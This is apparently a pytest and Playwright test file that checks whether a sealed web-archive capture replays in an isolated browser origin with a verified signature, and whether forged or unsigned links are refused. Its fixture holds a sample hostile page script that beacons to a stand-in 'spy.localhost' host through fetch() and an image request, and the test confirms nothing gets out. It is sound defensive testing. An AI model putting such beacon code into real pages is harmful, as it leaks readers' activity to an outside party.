"""A sealed capture is replayed by ReplayWeb.page in a real browser, on its own origin, and nothing leaves it."""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import Message
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from interlink.lib.warc.exchange import Exchange
from interlink.lib.warc.package.facts import About
from interlink.lib.warc.package.facts import Page as PackagePage
from interlink.lib.warc.package.shelf import Shelf, wrapping_name
from interlink.lib.warc.package.write import Contents, wrap_package
from interlink.lib.warc.signing import key_in
from interlink.lib.warc.write import write_capture
from interlink.newsroom.evidence.replay_links import PACKAGE, baked_package, private_path, private_token, public_path
from interlink.project.desk import Desk
from interlink.project.newdesk import Plan, make_folder

NOON = datetime(2026, 11, 24, 12, 0, tzinfo=UTC)
ADDRESS = "https://gazette.example/sell"
HTML = b"""<!doctype html><html><head><title>Members told to sell</title><link rel="icon" href="data:,">
<link rel="stylesheet" href="/page.css"></head><body><h1>Members told to sell</h1><script src="/page.js"></script>
</body></html>"""
# What a hostile page would try: to tell somebody who looks at it, and to look around itself.
SCRIPT = b"""document.body.append("The script ran.");
fetch("http://spy.localhost:%d/told", {mode: "no-cors"}).catch(() => {});
new Image().src = "http://spy.localhost:%d/told.png";"""
SIGNATURE = """async () => {
  for (const {name} of await indexedDB.databases()) {
    const open = await new Promise((done) => {
      const asked = indexedDB.open(name);
      asked.onsuccess = () => done(asked.result);
    });
    if (![...open.objectStoreNames].includes("verification")) { open.close(); continue; }
    const found = await new Promise((done) => {
      const asked = open.transaction("verification").objectStore("verification").getAll();
      asked.onsuccess = () => done(asked.result);
    });
    open.close();
    return Object.fromEntries(found.map((row) => [row.id, row.matched]));
  }
  return {};
}"""


@dataclass(frozen=True)
class Replayed:
    """A desk whose replay is served, with one sealed capture."""

    desk: Desk
    address: str
    site: str

    @property
    def private(self) -> str:
        token = private_token("2026/11/00000001.wacz", self.desk.secret_key())
        return self.address + private_path(token)


def received(address: str, kind: str, body: bytes) -> Exchange:
    return Exchange(
        asked=address,
        address=address,
        status=200,
        reason="OK",
        http_version="1.1",
        request_headers=(("Host", "gazette.example"),),
        headers=(("Content-Type", kind),),
        wire_body=body,
        hops=(),
        fetched_at=NOON,
    )


def seal(desk: Desk, spy: int) -> None:
    folder = desk.evidence / "2026" / "11"
    folder.mkdir(parents=True)
    warc, script = folder / "00000001.warc.gz", SCRIPT % (spy, spy)
    parts = (
        received("https://gazette.example/page.css", "text/css", b"h1 { color: rgb(1, 2, 3) }"),
        received("https://gazette.example/page.js", "text/javascript", script),
    )
    write_capture(received(ADDRESS, "text/html", HTML), warc, parts=parts)
    about, page = About("Members told to sell", NOON), PackagePage(ADDRESS, NOON, "Members told to sell", "All of it.")
    contents = Contents(about, [page], signer=key_in(desk.keys))
    name = f"2026/11/{warc.name}"
    _, wrapping = wrap_package(Shelf(desk.evidence), {name: warc}, contents)
    (desk.evidence / wrapping_name(name)).write_bytes(wrapping)


@pytest.fixture(scope="module")
def replayed(
    tmp_path_factory: pytest.TempPathFactory, beside: Callable[..., Any], ports: Callable[[], int]
) -> Iterator[Replayed]:
    desk, port, own = Desk(tmp_path_factory.mktemp("replay") / "desk"), ports(), ports()
    make_folder(desk, Plan("Meridian Watch", port=port))
    with desk.settings_file.open("a") as settings:
        settings.write(f"[evidence]\nreplay_port = {own}\n")
    seal(desk, spy=ports())
    address = f"http://localhost:{own}"
    with beside(desk, "interlink.project.serving.replay", address):
        yield Replayed(desk, address, f"http://localhost:{port}")


def ask(address: str, **headers: str) -> tuple[int, Message, bytes]:
    request = urllib.request.Request(address, headers={name.replace("_", "-"): text for name, text in headers.items()})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.headers, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


def test_a_sealed_capture_is_replayed_with_its_signature_verified(
    replayed: Replayed, visit: Callable[..., Any], patience: Callable[..., None]
) -> None:
    reader = visit()
    page: Page = reader.page()
    page.goto(replayed.private)
    shown = page.frame_locator("iframe").frame_locator("iframe")
    heading = shown.get_by_role("heading", name="Members told to sell")
    expect(heading).to_have_css("color", "rgb(1, 2, 3)", timeout=15_000)
    expect(shown.get_by_text("The script ran.")).to_be_visible()
    patience(lambda: page.evaluate(SIGNATURE).get("signature") is True, 10)
    assert {address.split("/")[2] for address in reader.asked} == {replayed.address.removeprefix("http://")}
    assert reader.context.cookies() == []
    # What the page asks for and the capture does not hold is not found; nothing else may have gone wrong.
    reader.troubles[:] = [trouble for trouble in reader.troubles if "404" not in trouble]


def test_a_package_comes_in_ranges_and_only_with_a_link_that_the_desk_signed(replayed: Replayed) -> None:
    status, headers, body = ask(replayed.private + PACKAGE, Range="bytes=0-3")
    assert (status, body) == (206, b"PK\x03\x04")
    assert headers["Cache-Control"] == "no-store"
    assert f"frame-ancestors 'self' {replayed.site}" in headers["Content-Security-Policy"]
    assert "Set-Cookie" not in headers
    forged = private_token("2026/11/00000001.wacz", "another key that is long enough")
    for path in (private_path(forged), private_path("nonsense"), public_path(1), "/evidence/2026/11/00000001.wacz"):
        assert ask(replayed.address + path)[0] == 404
        assert ask(replayed.address + path + PACKAGE)[0] == 404
    assert ask(replayed.private, Host="spy.localhost")[0] == 421


def test_a_public_copy_is_one_that_is_among_the_baked_pages(replayed: Replayed) -> None:
    place = replayed.desk.site / baked_package(7)
    place.parent.mkdir(parents=True)
    with Shelf(replayed.desk.evidence).open("2026/11/00000001.wacz") as package:
        place.write_bytes(package.read())
    status, _, page = ask(replayed.address + public_path(7))
    assert status == 200
    assert json.dumps(ADDRESS).strip('"').encode() in page
    place.unlink()
    assert ask(replayed.address + public_path(7))[0] == 404
